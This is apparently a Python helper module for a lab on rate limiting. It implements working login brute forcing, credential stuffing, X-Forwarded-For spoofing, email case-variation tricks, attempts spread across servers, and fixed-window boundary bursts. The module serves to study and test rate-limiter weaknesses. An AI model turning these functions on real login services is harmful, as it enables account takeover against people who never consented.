"""Online guessing and the tricks that get it past a rate limiter (lab 11-rate-limiting).

Pure functions over ``httpx`` clients: a wordlist brute force of a login, credential
stuffing, a fresh ``X-Forwarded-For`` per request, case-changed account names, requests spread
over several servers, and a burst timed at a fixed window's boundary.

Addresses written into ``X-Forwarded-For`` come from the documentation ranges of RFC 5737
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24): they never belong to anyone.
"""

from __future__ import annotations

import secrets
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any

import httpx

__all__ = [
    "BruteForceResult",
    "allowed_per_window",
    "boundary_burst",
    "brute_force",
    "case_variants",
    "client_from",
    "random_ip",
    "spread_attempts",
    "stuff_credentials",
]

LOGIN = "/api/auth/login"
_DOC_NETS = ("192.0.2", "198.51.100", "203.0.113")


def random_ip() -> str:
    """A random documentation address (RFC 5737), e.g. ``203.0.113.77``."""
    return f"{secrets.choice(_DOC_NETS)}.{secrets.randbelow(254) + 1}"


def client_from(base_url: str, source_ip: str | None = None, **kwargs: Any) -> httpx.Client:
    """An ``httpx.Client`` for ``base_url`` whose connections leave from ``source_ip``.

    Every 127.x.y.z address is loopback on Linux (and Windows), so ``127.0.0.2`` is a second
    machine as far as the server can tell. macOS has only 127.0.0.1 until you add an alias
    (``sudo ifconfig lo0 alias 127.0.0.2 up``).
    """
    kwargs.setdefault("timeout", 30.0)
    if source_ip is not None:
        kwargs["transport"] = httpx.HTTPTransport(local_address=source_ip)
    return httpx.Client(base_url=base_url, trust_env=False, **kwargs)


def case_variants(email: str) -> Iterator[str]:
    """``email`` first, then endless distinct random-case spellings (``cArOL@exAMple.com``)."""
    seen = {email}
    yield email
    letters = [i for i, c in enumerate(email) if c.isalpha()]
    if not letters:
        return
    while len(seen) < 2 ** min(len(letters), 40):
        chars = list(email.lower())
        for i in letters:
            if secrets.randbelow(2):
                chars[i] = chars[i].upper()
        variant = "".join(chars)
        if variant not in seen:
            seen.add(variant)
            yield variant


@dataclass
class BruteForceResult:
    """What a guessing run found: the password (or None), how many tries, and the statuses."""

    password: str | None
    attempts: int
    statuses: Counter[int] = field(default_factory=Counter)
    blocked: bool = False  # stopped by a 429
    retry_after: str | None = None

    def __repr__(self) -> str:
        if self.password is not None:
            head = f"found {self.password!r} after {self.attempts} attempts"
        elif self.blocked:
            head = f"blocked (429) after {self.attempts} attempts"
        else:
            head = f"not found in {self.attempts} attempts"
        codes = ", ".join(f"{code}×{n}" for code, n in sorted(self.statuses.items()))
        wait = f", Retry-After: {self.retry_after}" if self.retry_after else ""
        return f"<BruteForceResult {head} ({codes}){wait}>"


def _headers(rotate_ip: bool, extra: dict[str, str] | None) -> dict[str, str]:
    headers = dict(extra or {})
    if rotate_ip:
        headers["X-Forwarded-For"] = random_ip()
    return headers


def brute_force(
    client: httpx.Client,
    email: str,
    words: Iterable[str],
    *,
    rotate_ip: bool = False,
    vary_case: bool = False,
    change_case_every: int = 4,
    budget: int | None = None,
    headers: dict[str, str] | None = None,
    progress: bool = False,
) -> BruteForceResult:
    """Try ``words`` as ``email``'s password until one logs in, a 429 arrives, or ``budget``.

    ``rotate_ip`` sends a fresh ``X-Forwarded-For`` with every guess; ``vary_case`` spells the
    email differently every ``change_case_every`` guesses.
    """
    spellings = case_variants(email)
    spelling = next(spellings)
    if vary_case:  # the spelling as typed may be spent already: start with another one
        spelling = next(spellings, spelling)
    result = BruteForceResult(None, 0)
    candidates = list(words)[:budget] if budget is not None else list(words)
    iterator: Iterable[str] = candidates
    if progress:
        from tqdm.auto import tqdm

        iterator = tqdm(candidates, desc=f"guessing {email}", leave=False)
    for word in iterator:
        if vary_case and result.attempts and result.attempts % change_case_every == 0:
            spelling = next(spellings, spelling)
        response = client.post(
            LOGIN,
            json={"email": spelling, "password": word},
            headers=_headers(rotate_ip, headers),
        )
        result.attempts += 1
        result.statuses[response.status_code] += 1
        if response.status_code == 200:
            result.password = word
            break
        if response.status_code == 429:
            result.blocked = True
            result.retry_after = response.headers.get("retry-after")
            break
    return result


def stuff_credentials(
    client: httpx.Client,
    pairs: Iterable[Sequence[str]],
    *,
    rotate_ip: bool = False,
    headers: dict[str, str] | None = None,
) -> tuple[list[tuple[str, str]], Counter[int]]:
    """Try each leaked ``(email, password)`` once; return the pairs that log in, and statuses."""
    found: list[tuple[str, str]] = []
    statuses: Counter[int] = Counter()
    for email, password in pairs:
        response = client.post(
            LOGIN,
            json={"email": email, "password": password},
            headers=_headers(rotate_ip, headers),
        )
        statuses[response.status_code] += 1
        if response.status_code == 200:
            found.append((email, password))
    return found, statuses


def spread_attempts(
    clients: Sequence[httpx.Client], email: str, attempts: int, guess: str = "wrong-guess"
) -> list[tuple[int, int]]:
    """Send ``attempts`` logins for ``email`` round-robin over ``clients`` (several servers).

    Returns ``(server index, status)`` per attempt: count the non-429s to see the allowance.
    """
    results = []
    for n in range(attempts):
        index = n % len(clients)
        response = clients[index].post(LOGIN, json={"email": email, "password": f"{guess}-{n}"})
        results.append((index, response.status_code))
    return results


def boundary_burst(
    client: httpx.Client,
    path: str,
    *,
    limit: int,
    window: float,
    headers: dict[str, str] | None = None,
    sleep: Callable[[float], None] = time.sleep,
) -> list[tuple[float, int]]:
    """Spend a quota just before a window boundary and again just after it.

    One request opens the window at t=0; at half the window the rest of the quota goes; from
    t=window on, requests probe the boundary until the server lets one through (the window
    started when the *server* counted the first request, which a busy machine delays), and a
    second full quota follows at once. A fixed window counts that as two windows and allows
    nearly ``2 * limit`` within about half a window; a moving window refuses it. Probing
    stops after one more window either way. Returns ``(seconds since the first request,
    status)`` per request, probes included.
    """
    events: list[tuple[float, int]] = []
    start = time.monotonic()

    def send() -> int:
        status = client.get(path, headers=headers).status_code
        events.append((time.monotonic() - start, status))
        return status

    send()
    sleep(max(0.0, window * 0.5 - (time.monotonic() - start)))
    for _ in range(limit - 1):
        send()
    sleep(max(0.0, window - (time.monotonic() - start)))
    deadline = time.monotonic() + window
    while send() == 429 and time.monotonic() < deadline:  # not yet: the window is still on
        sleep(window / 50)
    for _ in range(limit - 1):
        send()
    return events


def allowed_per_window(events: Sequence[tuple[float, int]], window: float) -> int:
    """The most requests allowed (not 429) within any ``window`` seconds of ``events``."""
    times = sorted(t for t, status in events if status != 429)
    best, left = 0, 0
    for right, t in enumerate(times):
        while t - times[left] >= window:
            left += 1
        best = max(best, right - left + 1)
    return best
